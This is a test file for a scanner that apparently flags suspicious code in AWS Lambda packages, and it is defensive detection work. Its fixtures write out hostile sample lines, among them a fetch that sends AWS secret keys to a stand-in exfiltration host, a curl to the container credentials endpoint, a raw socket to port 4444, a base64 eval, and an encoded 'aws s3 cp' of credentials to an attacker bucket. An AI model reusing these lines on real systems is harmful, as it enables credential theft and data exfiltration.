import {describe, expect, it} from 'vitest'
import {scanLine} from '../../../../src/analysis/code/indicators.js'
import {LineScanner} from '../../../../src/analysis/code/line-scanner.js'
import {FileSink, looksLikeText} from '../../../../src/analysis/code/file-sink.js'
import {functionModule, layerModule} from '../../../../src/analysis/code/runtime-paths.js'
import {installPath, languageOf, modeText} from '../../../../src/analysis/code/entry-names.js'

const kinds = (line: string): Array<[string, string]> => scanLine(line, 1).map((i) => [i.kind, i.value])

describe('code indicators', () => {
  it('finds outbound calls, credential variables and the metadata endpoints', () => {
    expect(kinds("await fetch('https://exfil.example.ru/c?k=' + process.env.AWS_SECRET_ACCESS_KEY)")).toEqual([
      ['url', 'https://exfil.example.ru/c?k='],
      ['credential-env', 'AWS_SECRET_ACCESS_KEY'],
    ])
    expect(kinds('token = os.environ["AWS_SESSION_TOKEN"]; requests.post("http://198.51.100.7:8080/x")')).toEqual([
      ['credential-env', 'AWS_SESSION_TOKEN'],
      ['url', 'http://198.51.100.7:8080/x'],
      ['ip-address', '198.51.100.7'],
    ])
    expect(scanLine('curl http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI', 3).map((i) => [i.kind, i.detail, i.line])).toEqual([
      ['url', null, 3],
      ['ip-address', 'container credentials endpoint', 3],
      ['credential-env', null, 3],
    ])
    expect(kinds("open('/proc/self/environ').read()")).toEqual([['proc-environ', '/proc/self/environ']])
    expect(kinds('const body = JSON.stringify(process.env)')).toEqual([['environment-dump', 'JSON.stringify(process.env)']])
    expect(kinds('beacon to c2-relay.onion now')).toEqual([['domain', 'c2-relay.onion']])
  })

  it('finds process execution, raw sockets, runtime API use and decoded code run', () => {
    expect(kinds("const {execSync} = require('child_process')")).toEqual([['process-execution', 'child_process']])
    expect(kinds('subprocess.check_output(["id"]); os.system("sh")')).toEqual([
      ['process-execution', 'subprocess.check_output'],
      ['process-execution', 'os.system('],
    ])
    expect(kinds('Runtime.getRuntime().exec(cmd)')).toEqual([['process-execution', 'Runtime.getRuntime().exec']])
    expect(kinds('s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)')).toEqual([['raw-socket', 'socket.socket(']])
    expect(kinds("const s = net.connect(4444, '203.0.113.9')")).toEqual([['raw-socket', 'net.connect'], ['ip-address', '203.0.113.9']])
    expect(kinds('http.get(`http://${process.env.AWS_LAMBDA_RUNTIME_API}/2018-06-01/runtime/invocation/next`)').map(([k]) => k)).toEqual(['url', 'runtime-api', 'runtime-api'])
    expect(kinds("eval(Buffer.from(payload, 'base64').toString())")).toEqual([['decode-exec', 'eval(Buffer.from']])
    expect(kinds('exec(base64.b64decode(blob))')).toEqual([['decode-exec', 'exec(base64.b64decode']])
    expect(kinds('result = eval(expression)')).toEqual([['dynamic-code', 'eval(']])
    expect(kinds('const m = /x/.exec(s); model.eval()')).toEqual([])
  })

  it('finds long encoded blobs and high-entropy strings, masking what may be a secret', () => {
    const blob = Buffer.from('aws s3 cp /tmp/creds s3://attacker-drop/ --quiet; '.repeat(3)).toString('base64')
    const [b64] = scanLine(`const p = "${blob}"`, 1)
    expect(b64).toMatchObject({kind: 'base64-blob', detail: expect.stringContaining('decodes to text: "aws s3 cp /tmp/creds')})
    expect(b64!.value.length).toBeLessThan(100)
    expect(kinds('x = "' + 'deadbeef'.repeat(24) + '"').map(([k]) => k)).toEqual(['hex-blob'])
    expect(kinds('sc = "' + '\\x90'.repeat(20) + '"').map(([k]) => k)).toEqual(['hex-blob'])
    const [secret] = scanLine('const key = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"', 1)
    expect(secret).toMatchObject({kind: 'high-entropy-string', value: 'wJal…EKEY (40 chars)'})
    expect(kinds("const id = 'AKIAIOSFODNN7EXAMPLE'")).toEqual([['aws-access-key', 'AKIAIOSFODNN7EXAMPLE']])
  })

  it('stays quiet on ordinary code: identifiers, integrity hashes, versions and short strings', () => {
    const quiet = [
      "module.exports = require('./lib/index.js')",
      'this.io.emit(config.net, app.socket)',
      '"integrity": "sha512-' + 'Ab1+'.repeat(22) + '"',
      '"version": "1.2.3", "name": "left-pad"',
      "const sum = (a, b) => a + b // README.md",
      'import boto3; s3 = boto3.client("s3")',
      'const uuid = "3f2504e0-4f89-11d3-9a0c-0305e82c3301"',
    ]
    for (const line of quiet) expect(kinds(line), line).toEqual([])
  })

  it('escapes what it keeps and cuts long values', () => {
    const [url] = scanLine('fetch("https://evil.example.com/\u001b[31mred")', 1)
    expect(url!.value).toBe('https://evil.example.com/\\u001b')
    const long = scanLine(`u = "https://a.example.com/${'x'.repeat(1000)}"`, 1)[0]!
    expect(long.value).toMatch(/… \(1022 chars\)$/)
    expect(long.value.length).toBeLessThan(230)
  })
})

describe('LineScanner', () => {
  it('counts lines across chunks and scans very long lines in windows with flat memory', () => {
    const s = new LineScanner()
    s.write(Buffer.from('line one\nconst a = "https://a.example.com/'))
    s.write(Buffer.from('x"\n\n'))
    const minified = `${'var a=1;'.repeat(20_000)}child_process;${'var b=2;'.repeat(20_000)}AWS_SESSION_TOKEN`
    s.write(Buffer.from(minified))
    const found = s.end()
    expect(found.map((i) => [i.line, i.kind])).toEqual([[2, 'url'], [4, 'process-execution'], [4, 'credential-env']])
    expect(found[1]!.column).toBe(160_001)
    expect(found[2]!.column).toBe(minified.length - 'AWS_SESSION_TOKEN'.length + 1)
  })

  it('keeps at most its cap of indicators and counts the rest', () => {
    const s = new LineScanner(3)
    s.write(Buffer.from('AWS_SESSION_TOKEN\n'.repeat(10)))
    expect(s.end()).toHaveLength(3)
    expect(s.dropped).toBe(7)
  })
})

describe('file classification', () => {
  it('tells text from binary like git, and does not scan binaries or oversized files', () => {
    expect(looksLikeText(Buffer.from('héllo\n'), true)).toBe(true)
    expect(looksLikeText(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1]), true)).toBe(false)
    expect(looksLikeText(Buffer.from([0xc3]), false)).toBe(true)
    expect(looksLikeText(Buffer.from([0xff, 0xfe, 0x41]), true)).toBe(false)
    const elf = new FileSink(false, 10, 100)
    elf.write(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 0, 0]))
    expect([elf.end().indicators, elf.content, elf.skipped]).toEqual([[], 'binary', 'binary'])
    const big = new FileSink(false, 1000, 100)
    big.write(Buffer.from('AWS_SESSION_TOKEN\n'.repeat(50)))
    expect([big.end().indicators, big.content, big.skipped]).toEqual([[], 'text', 'oversized'])
  })

  it('maps files to where they land and which module a runtime loads from them', () => {
    expect(layerModule('nodejs/node_modules/@aws-sdk/client-s3/dist-cjs/index.js')).toEqual({searchRoot: '/opt/nodejs/node_modules', module: '@aws-sdk/client-s3'})
    expect(layerModule('nodejs/node20/node_modules/aws-sdk/lib/core.js')).toEqual({searchRoot: '/opt/nodejs/node20/node_modules', module: 'aws-sdk'})
    expect(layerModule('python/boto3/__init__.py')).toEqual({searchRoot: '/opt/python', module: 'boto3'})
    expect(layerModule('python/json.py')).toEqual({searchRoot: '/opt/python', module: 'json'})
    expect(layerModule('python/lib/python3.12/site-packages/botocore/client.py')).toEqual({searchRoot: '/opt/python/lib/python3.12/site-packages', module: 'botocore'})
    expect(layerModule('python/lib/python3.12/site-packages/_speedups.cpython-312-x86_64-linux-gnu.so').module).toBe('_speedups')
    expect(layerModule('python/lib/python3.12/site-packages/requests-2.31.0.dist-info/METADATA').module).toBeNull()
    expect(layerModule('extensions/telemetry-agent')).toEqual({searchRoot: '/opt/extensions', module: 'telemetry-agent'})
    expect(layerModule('bootstrap')).toEqual({searchRoot: '/opt', module: 'bootstrap'})
    expect(layerModule('README.md')).toEqual({searchRoot: null, module: null})
    expect(functionModule('node_modules/left-pad/index.js')).toEqual({searchRoot: '/var/task/node_modules', module: 'left-pad'})
    expect(functionModule('app.py')).toEqual({searchRoot: '/var/task', module: 'app'})
    expect(installPath('/var/task', 'lib/util.js')).toBe('/var/task/lib/util.js')
    expect(installPath('/opt', '../../etc/passwd')).toBeNull()
    expect(installPath('/opt', '/etc/passwd')).toBeNull()
  })

  it('names languages by extension and modes as ls does', () => {
    expect(['a.mjs', 'b.py', 'c.cpython-312.so', 'libz.so.1.2', 'bootstrap', 'x.unknown', 'Makefile'].map(languageOf)).toEqual([
      'javascript', 'python', 'shared-object', 'shared-object', 'bootstrap', null, 'makefile',
    ])
    expect(modeText(0o100755, 'file')).toBe('-rwxr-xr-x')
    expect(modeText(0o104755, 'file')).toBe('-rwsr-xr-x')
    expect(modeText(0o120777, 'symlink')).toBe('lrwxrwxrwx')
    expect(modeText(null, 'file')).toBeNull()
  })
})
